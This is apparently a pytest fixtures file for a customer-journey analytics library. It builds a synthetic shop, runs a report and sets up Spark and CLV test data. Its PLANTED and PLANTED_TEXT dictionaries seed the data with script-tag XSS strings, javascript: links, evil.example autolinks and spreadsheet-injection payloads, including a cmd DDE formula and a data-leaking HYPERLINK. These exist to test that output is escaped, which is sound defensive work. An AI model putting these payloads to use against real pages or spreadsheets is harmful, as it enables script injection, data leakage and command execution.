"""Shared fixtures: a small synthetic shop, generated once per test session.

``shop_dir`` is what tests of the report runner, the notebooks and the analyses read: a
4,000-user shop (about 70,000 events, generated in well under a second) with all four files of
:func:`journeylib.synth.generate_shop`. Its planted truths are in ``truth.json`` (fixture
``shop_truth``); at this size they are present but not all statistically significant:
``tests/test_synth.py`` checks them on a default-size shop.
"""

import json
from pathlib import Path

import pandas as pd
import pytest

from journeylib.synth.shop import generate_shop

SMALL_SHOP = {"n_customers": 4_000, "seed": 7}


@pytest.fixture(scope="session")
def shop_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Directory of a small synthetic shop: events, order_lines, customers, truth.json."""
    out = tmp_path_factory.mktemp("shop")
    generate_shop(**SMALL_SHOP, out=out)
    return out


@pytest.fixture(scope="session")
def default_shop_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The documented default shop (30,000 users, seed 42, what ``make data`` writes)."""
    out = tmp_path_factory.mktemp("default_shop")
    generate_shop(n_customers=30_000, seed=42, out=out)
    return out


@pytest.fixture(scope="session")
def _shop_events(shop_dir: Path) -> pd.DataFrame:
    return pd.read_parquet(shop_dir / "events.parquet")


@pytest.fixture
def shop_events_df(_shop_events: pd.DataFrame) -> pd.DataFrame:
    """events.parquet of ``shop_dir`` as a pandas DataFrame (a fresh copy for each test)."""
    return _shop_events.copy()


@pytest.fixture(scope="session")
def shop_truth(shop_dir: Path) -> dict:
    """truth.json of ``shop_dir``: parameters, headline rates, planted truths."""
    return json.loads((shop_dir / "truth.json").read_text())


# --- one real report run, shared by the notebook, page, index, safety and browser tests ------

#: Planted in the data of the shared report run (tests/test_report_pages.py): text that must
#: never reach a page raw.
PLANTED = {
    "category": '<script>alert("category")</script>',
    "product_id": '<script>alert("product")</script>',
    "campaign": '<script>alert("campaign")</script> by promo.team@example.com',
    "event": '<script>alert("event")</script>',
}
EMAIL_DOMAIN = "@example.com"
#: Markdown, autolinks and spreadsheet formulas planted in the same run: shown as typed on
#: every page (never a link, emphasis or table), never at the start of a CSV cell raw.
#: Column -> (value replaced, payload).
PLANTED_TEXT = {
    "channel": ("paid_social", "[ch](javascript:alert(1))"),
    "category": ("shoes", "**bold** | table | [cat](javascript:alert(2))"),
    "page_type": ("blog", "see http://evil.example/blog or www.evil.example"),
    "campaign": ("prospecting", "<http://evil.example/c> `tick` _em_"),
    "device": ("tablet", '=HYPERLINK("http://x/?"&A1,"u1")'),
    "variant": (None, "+cmd|' /C calc'!A1"),
    "product_id": ("P0077", "@SUM(1+1)"),
    "order_id": ("100002", "-2+3"),
}


def poisoned_shop(shop_dir: Path, out: Path) -> Path:
    """A copy of ``shop_dir`` with markup in names and every user id an e-mail address.

    Every user id becomes ``<id>.jane.doe@example.com``; one category, one product, the
    newsletter campaign and the ``share`` event get ``<script>`` names (:data:`PLANTED`);
    other names and ids get Markdown, autolinks and spreadsheet formulas
    (:data:`PLANTED_TEXT`; ``variant`` None: the first variant value).
    Returns the folder (events.parquet and truth.json).
    """
    events = pd.read_parquet(shop_dir / "events.parquet")
    events["user_id"] = events.user_id + ".jane.doe" + EMAIL_DOMAIN
    top_category = events.category.value_counts().index[0]
    events["category"] = events.category.replace(top_category, PLANTED["category"])
    top_product = events.product_id.value_counts().index[0]
    events["product_id"] = events.product_id.replace(top_product, PLANTED["product_id"])
    events["campaign"] = events.campaign.replace("newsletter", PLANTED["campaign"])
    events["event"] = events.event.replace("share", PLANTED["event"])
    for column, (old, payload) in PLANTED_TEXT.items():
        old = old if old is not None else sorted(events[column].dropna().unique())[0]
        events[column] = events[column].replace(old, payload)
    out.mkdir(parents=True, exist_ok=True)
    events.to_parquet(out / "events.parquet", index=False)
    (out / "truth.json").write_bytes((shop_dir / "truth.json").read_bytes())
    return out


@pytest.fixture(scope="session")
def report_run(shop_dir: Path, tmp_path_factory: pytest.TempPathFactory):
    """``journeylib report`` over every notebook in notebooks/, once, on the poisoned shop.

    The last complete week of the small shop; returns the :class:`ReportResult`.
    """
    from journeylib.report import runner as report

    root = tmp_path_factory.mktemp("report_run")
    data = poisoned_shop(shop_dir, root / "shop") / "events.parquet"
    notebooks = Path(__file__).resolve().parents[1] / "notebooks"
    return report.run_report(
        data=data, out=root / "reports", notebooks=notebooks, progress=False, timeout=600
    )


@pytest.fixture(scope="session")
def spark_backend():
    """One local Spark session (2 cores, UTC) for the whole test session, as an ibis backend.

    Skips, saying why, when pyspark (``pip install 'journeylib[spark]'``) or Java is missing.
    """
    import os
    import shutil

    pytest.importorskip("pyspark", reason="pyspark not installed: pip install 'journeylib[spark]'")
    if not (shutil.which("java") or os.environ.get("JAVA_HOME")):
        pytest.skip("Spark needs Java (17): none on PATH and JAVA_HOME unset")
    from journeylib.engine.backend import connect

    con = connect(
        "spark",
        master="local[2]",
        # small data: one shuffle partition, and no code generation (compiling Java for every
        # query costs more than running it interpreted on a few thousand rows)
        **{
            "spark.sql.shuffle.partitions": "1",
            "spark.sql.codegen.wholeStage": "false",
            "spark.sql.adaptive.enabled": "false",
        },
    )
    yield con
    con.disconnect()


# --- lifetimes and the CDNOW sample it ships (tests of the CLV models and the guard) ----------


@pytest.fixture(scope="session")
def lifetimes():
    """The lifetimes package, imported through journeylib's guard."""
    from journeylib.clv import _lifetimes

    return _lifetimes.import_lifetimes()


@pytest.fixture(scope="session")
def transactions() -> pd.DataFrame:
    """CDNOW transactions as shipped with lifetimes."""
    from journeylib.clv import _lifetimes

    return _lifetimes.load_cdnow_transactions()


@pytest.fixture
def ga4_export() -> pd.DataFrame:
    """Three events of a flattened GA4 BigQuery export (two users sharing a session id)."""
    return pd.DataFrame(
        {
            "user_pseudo_id": ["123.456", "123.456", "789.1"],
            "event_name": ["page_view", "purchase", "page_view"],
            "event_timestamp": [1717200000123456, 1717200060000000, 1717200000000000],
            "ga_session_id": [1717200000, 1717200000, 1717200000],
            "device.category": ["mobile", "mobile", "desktop"],
            "traffic_source.medium": ["cpc", "cpc", "(none)"],
            "traffic_source.source": ["google", "google", "(direct)"],
        }
    )
